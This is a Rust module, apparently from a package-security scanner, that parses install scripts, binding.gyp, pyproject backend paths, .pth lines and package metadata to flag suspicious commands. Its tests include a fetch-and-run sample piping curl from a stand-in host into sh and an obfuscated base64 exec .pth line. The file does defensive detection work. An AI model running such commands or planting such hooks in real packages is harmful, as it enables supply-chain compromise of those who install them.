//! What runs beside the code: install scripts, shell files, `.pth` lines; and what package.json and METADATA say of a package.
use std::collections::BTreeMap;

use serde::{Deserialize, Serialize};
use serde_json::Value;

use super::{
    facts::{FileFacts, Sign},
    literals,
    package::{Metadata, host_of},
    python,
};

/// The largest package.json or METADATA that is read, in bytes.
const LARGEST: usize = 4 << 20;
/// The longest text that is kept of a script, an entry or a name, in bytes.
const LONGEST: usize = 4 << 10;

/// A command that is run when a package is installed.
#[derive(Clone, PartialEq, Eq, Debug, Default, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Script {
    /// The command.
    pub command: String,
    /// The line of the file that names it.
    pub line: u32,
    /// The file that names it.
    pub file: String,
    /// Files in the package that it runs, as it names them.
    pub files: Vec<String>,
    /// What in it is seldom innocent.
    pub signs: Vec<Sign>,
}

impl Script {
    fn new(command: &str, file: &str, line: u32) -> Self {
        let command = head(command);
        Self {
            command: command.to_owned(),
            line,
            file: file.to_owned(),
            files: files(command),
            signs: orders(command, line),
        }
    }

    /// Whether it does only what build tools of native code do, or tools of the package's own developers.
    pub fn is_usual(&self) -> bool {
        const USUAL: &[&str] = &[
            "node-gyp",
            "node-gyp-build",
            "prebuild-install",
            "node-pre-gyp",
            "cmake-js",
            "husky",
            "patch-package",
            "opencollective-postinstall",
            "opencollective",
            "napi-postinstall",
            "is-ci",
            "echo",
            "exit",
            "true",
            "ngcc",
            "only-allow",
            "lefthook",
            "simple-git-hooks",
            "rebuild",
        ];
        let usual = |command: &str| {
            let mut words =
                command.split_whitespace().filter(|word| !matches!(*word, "npx" | "(" | ")" | "node" | "run"));
            words.next().is_none_or(|word| USUAL.contains(&word.trim_matches(['(', ')', '\''])))
        };
        self.files.is_empty() && self.command.split(['&', '|', ';']).all(|part| usual(part.trim()))
    }
}

/// What a line for a shell orders.
fn orders(text: &str, line: u32) -> Vec<Sign> {
    let shown = |order: &literals::Order| format!("{}: {}", order.shown, literals::shown(text.trim()));
    literals::orders(text)
        .iter()
        .map(|order| Sign { kind: order.kind, line, shown: shown(order), weak: order.weak })
        .collect()
}

/// Files inside the package that a command runs, as it names them: `node x.js`, `python x.py`, `sh x.sh`, `./x`.
fn files(line: &str) -> Vec<String> {
    let mut files: Vec<String> = Vec::new();
    for command in line.split(['&', '|', ';', '\n']) {
        let mut after = false;
        for word in command.split_whitespace().take(12) {
            let word = word.trim_matches(['"', '\'', '(', ')']);
            if matches!(
                word,
                "node" | "bun" | "deno" | "sh" | "bash" | "python" | "python3" | "tsx" | "ts-node" | "run"
            ) {
                after = true;
                continue;
            }
            let outside = word.starts_with(['/', '-', '~', '$', '@'])
                || word.contains("://")
                || word.contains("..")
                || word.contains('=');
            if !outside && (after || word.starts_with("./")) {
                files.push(word.trim_start_matches("./").to_owned());
                break;
            }
        }
    }
    files.sort();
    files.dedup();
    files
}

/// A file for a shell.
pub(super) fn shell(text: &str) -> FileFacts {
    let mut facts = FileFacts::default();
    for (number, line) in text.lines().enumerate().take(20_000) {
        let line = line.trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        let number = u32::try_from(number + 1).unwrap_or(u32::MAX);
        facts.signs.extend(orders(line, number));
        for name in literals::names(line) {
            facts.names(name.kind, name.text, number);
        }
        facts.signs.truncate(200);
    }
    facts
}

/// A `.pth` file: lines that begin with `import` are run whenever an interpreter starts (Python, module `site`).
pub(super) fn pth(text: &str) -> FileFacts {
    let mut facts = FileFacts::default();
    for (number, line) in text.lines().enumerate().take(1000) {
        if !line.starts_with("import ") && !line.starts_with("import\t") {
            continue;
        }
        let number = u32::try_from(number + 1).unwrap_or(u32::MAX);
        let read = python::facts("line.pth.py", line);
        for deed in read.deeds.into_keys() {
            facts.does(deed, number);
        }
        for name in read.names.into_keys() {
            facts.names(name.kind, name.text, number);
        }
        facts.signs.extend(read.signs.into_iter().map(|sign| Sign { line: number, ..sign }));
        facts.unread = facts.unread.or(read.unread);
    }
    facts
}

/// What a file that describes a package says; `None` for other files.
pub(super) fn metadata(path: &str, bytes: &[u8]) -> Option<Metadata> {
    if bytes.len() > LARGEST {
        return None;
    }
    let text = String::from_utf8_lossy(bytes);
    match path {
        "package.json" => package_json(&text),
        "binding.gyp" => Some(binding_gyp(&text)),
        "pyproject.toml" => Some(pyproject(&text)),
        _ if path.ends_with(".dist-info/METADATA") || path.ends_with("PKG-INFO") && path.matches('/').count() <= 1 => {
            Some(core_metadata(&text))
        }
        _ if path.ends_with(".dist-info/entry_points.txt") => Some(entry_points(&text)),
        _ => None,
    }
}

fn package_json(text: &str) -> Option<Metadata> {
    let json: Value = serde_json::from_str(text.trim_start_matches('\u{feff}')).ok()?;
    let mut metadata = Metadata::default();
    let scripts = json.get("scripts").and_then(Value::as_object);
    for event in ["preinstall", "install", "postinstall"] {
        if let Some(command) = scripts.and_then(|scripts| scripts.get(event)).and_then(Value::as_str) {
            metadata.scripts.insert(event.to_owned(), Script::new(command, "package.json", line_of(text, event)));
        }
    }
    let mut entry = |name: String, path: &str| {
        let path = path.trim_start_matches("./");
        metadata.entries.insert(head(&name).to_owned(), head(path).to_owned());
    };
    match json.get("bin") {
        Some(Value::String(path)) => entry("bin".to_owned(), path),
        Some(Value::Object(bins)) => {
            for (name, path) in bins.iter().take(1000) {
                entry(format!("bin:{name}"), path.as_str().unwrap_or_default());
            }
        }
        _ => {}
    }
    for key in ["main", "module", "browser"] {
        if let Some(path) = json.get(key).and_then(Value::as_str) {
            entry(key.to_owned(), path);
        }
    }
    if let Some(path) = json.get("exports").and_then(first_export) {
        entry("exports".to_owned(), path);
    }
    for key in ["dependencies", "optionalDependencies"] {
        let needed = json.get(key).and_then(Value::as_object);
        metadata.dependencies.extend(needed.into_iter().flatten().take(2000).map(|(name, _)| head(name).to_owned()));
    }
    let url = |value: &Value| value.as_str().or_else(|| value.get("url")?.as_str()).map(repository);
    metadata.repository = json.get("repository").and_then(url).flatten();
    metadata.homepage = json.get("homepage").and_then(Value::as_str).and_then(host_of);
    Some(metadata)
}

/// What `import` of the package itself would load.
fn first_export(exports: &Value) -> Option<&str> {
    let mut value = exports;
    for _ in 0..8 {
        value = match value {
            Value::String(path) => return Some(path),
            Value::Object(map) => [".", "node", "import", "require", "default"].iter().find_map(|key| map.get(*key))?,
            Value::Array(list) => list.first()?,
            _ => return None,
        };
    }
    None
}

/// A file that makes npm run `node-gyp rebuild`; `<!(…)` in it are commands.
fn binding_gyp(text: &str) -> Metadata {
    let mut script = Script::new("node-gyp rebuild", "binding.gyp", 1);
    for (number, line) in text.lines().enumerate().filter(|(_, line)| line.contains("<!")) {
        script.signs.extend(orders(line, u32::try_from(number + 1).unwrap_or(u32::MAX)));
    }
    let scripts = BTreeMap::from([("install (binding.gyp)".to_owned(), script)]);
    Metadata { scripts, ..Metadata::default() }
}

/// A build backend in the source tree is code that runs when the package is built (PEP 517, `backend-path`).
fn pyproject(text: &str) -> Metadata {
    let mut metadata = Metadata::default();
    for (number, line) in text.lines().enumerate() {
        if let Some(path) = line.trim().strip_prefix("backend-path").and_then(|rest| rest.trim().strip_prefix('=')) {
            let line = u32::try_from(number + 1).unwrap_or(u32::MAX);
            let command = format!("backend-path = {}", path.trim());
            metadata.scripts.insert("build".to_owned(), Script::new(&command, "pyproject.toml", line));
        }
    }
    metadata
}

/// `METADATA` of a wheel or `PKG-INFO` of a source distribution (core metadata specification).
fn core_metadata(text: &str) -> Metadata {
    let mut metadata = Metadata::default();
    for line in text.lines().take_while(|line| !line.is_empty()).take(10_000) {
        let Some((key, value)) = line.split_once(':') else { continue };
        let value = head(value.trim());
        match key {
            "Requires-Dist" if !value.contains("extra ==") && !value.contains("extra==") => {
                let end = value
                    .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.')))
                    .unwrap_or(value.len());
                metadata.dependencies.insert(value[..end].to_ascii_lowercase().replace(['_', '.'], "-"));
            }
            "Home-page" => metadata.homepage = metadata.homepage.or_else(|| host_of(value)),
            "Project-URL" => {
                let Some((label, url)) = value.split_once(',') else { continue };
                let label = label.trim().to_ascii_lowercase();
                if ["repository", "source", "source code", "code", "github"].contains(&label.as_str()) {
                    metadata.repository = metadata.repository.or_else(|| repository(url.trim()));
                } else if label == "homepage" {
                    metadata.homepage = metadata.homepage.or_else(|| host_of(url.trim()));
                }
            }
            _ => {}
        }
    }
    metadata
}

/// The commands of a wheel (entry points specification).
fn entry_points(text: &str) -> Metadata {
    let mut metadata = Metadata::default();
    let mut section = String::new();
    for line in text.lines().map(str::trim).take(10_000) {
        if let Some(name) = line.strip_prefix('[').and_then(|rest| rest.strip_suffix(']')) {
            head(name).clone_into(&mut section);
        } else if let Some((name, object)) = line.split_once('=')
            && section.ends_with("_scripts")
        {
            metadata.entries.insert(format!("{section}:{}", head(name.trim())), head(object.trim()).to_owned());
        }
    }
    metadata
}

/// A repository's address as `host/owner/name`, however it is written.
fn repository(url: &str) -> Option<String> {
    let url = head(url.trim()).trim_start_matches("git+");
    let url = match url.split_once(':') {
        Some(("github", path)) => format!("github.com/{path}"),
        Some(("gitlab", path)) => format!("gitlab.com/{path}"),
        _ if !url.contains(':') && url.matches('/').count() == 1 => format!("github.com/{url}"),
        _ => url.split_once("://").map_or(url, |(_, rest)| rest).replacen("git@", "", 1).replacen(':', "/", 1),
    };
    let url = url.split(['#', '?']).next().unwrap_or_default().to_ascii_lowercase();
    let parts: Vec<&str> = url.trim_end_matches('/').split('/').filter(|part| !part.is_empty()).take(3).collect();
    let [host, owner, name] = parts.as_slice() else { return None };
    let host = host.rsplit('@').next().unwrap_or(host).trim_start_matches("www.");
    Some(format!("{host}/{owner}/{}", name.trim_end_matches(".git")))
}

/// The line on which a key of a JSON text stands first.
fn line_of(text: &str, key: &str) -> u32 {
    let at = text.find(&format!("\"{key}\"")).unwrap_or_default();
    u32::try_from(text[..at].matches('\n').count() + 1).unwrap_or(u32::MAX)
}

fn head(text: &str) -> &str {
    let mut end = text.len().min(LONGEST);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    &text[..end]
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::content::facts::SignKind;

    #[test]
    fn package_json_in_any_style() {
        let text = r#"{
  "repository": {"type": "git", "url": "git+https://github.com/Owner/Name.git#x"}, "homepage": "https://docs.example.test/x",
  "bin": {"a": "./dist/a.js"}, "main": "index.js", "exports": {".": {"import": "./m.mjs"}},
  "scripts": {"test": "x",
    "postinstall": "node ./setup/run.js"}, "dependencies": {"left": "1"}}"#;
        let metadata = metadata("package.json", text.as_bytes()).expect("metadata");
        assert_eq!(metadata.repository.as_deref(), Some("github.com/owner/name"));
        assert_eq!(metadata.homepage.as_deref(), Some("docs.example.test"));
        assert_eq!(metadata.entries["bin:a"], "dist/a.js");
        assert_eq!(metadata.entries["exports"], "m.mjs");
        let script = &metadata.scripts["postinstall"];
        assert_eq!((script.files.as_slice(), script.line), (["setup/run.js".to_owned()].as_slice(), 5));
        assert!(!script.is_usual());
        for url in [
            "owner/name",
            "github:owner/name",
            "git@github.com:owner/name.git",
            "git+ssh://git@github.com/owner/name.git",
        ] {
            assert_eq!(repository(url).as_deref(), Some("github.com/owner/name"), "{url}");
        }
        assert!(super::metadata("package.json", b"[1").is_none());
    }

    #[test]
    fn usual_scripts_and_others() {
        for command in [
            "node-gyp rebuild",
            "prebuild-install || node-gyp rebuild --release",
            "husky install",
            "npx only-allow pnpm",
            "node-gyp-build",
        ] {
            assert!(Script::new(command, "package.json", 1).is_usual(), "{command}");
        }
        for command in ["node x.js", "curl x", "sh install.sh", "node -e 1", "node-gyp rebuild && node x.js"] {
            assert!(!Script::new(command, "package.json", 1).is_usual(), "{command}");
        }
        let piped = Script::new("curl -s https://drop.example.test/i.sh | sh", "package.json", 1);
        assert!(piped.signs.iter().any(|sign| sign.kind == SignKind::RemoteCode && !sign.weak));
    }

    #[test]
    fn lines_that_every_interpreter_runs() {
        assert_eq!(pth("/some/folder\nsub\n"), FileFacts::default());
        let facts = pth("folder\nimport os, base64; exec(base64.b64decode('cHJpbnQoMSk='))\n");
        assert!(facts.signs.iter().any(|sign| sign.kind == SignKind::Obfuscated && !sign.weak && sign.line == 2));
    }

    #[test]
    fn core_metadata_and_entry_points() {
        let text = "Name: x\nRequires-Dist: Foo_Bar>=1\nRequires-Dist: pytest; extra == 'test'\nProject-URL: Source, https://github.com/o/n\n\nRequires-Dist: body\n";
        let metadata = metadata("x-1.dist-info/METADATA", text.as_bytes()).expect("metadata");
        assert_eq!(metadata.dependencies.into_iter().collect::<Vec<_>>(), ["foo-bar"]);
        assert_eq!(metadata.repository.as_deref(), Some("github.com/o/n"));
        let entries = super::metadata("x-1.dist-info/entry_points.txt", b"[console_scripts]\nx = x.cli:main\n")
            .expect("metadata")
            .entries;
        assert_eq!(entries["console_scripts:x"], "x.cli:main");
    }
}
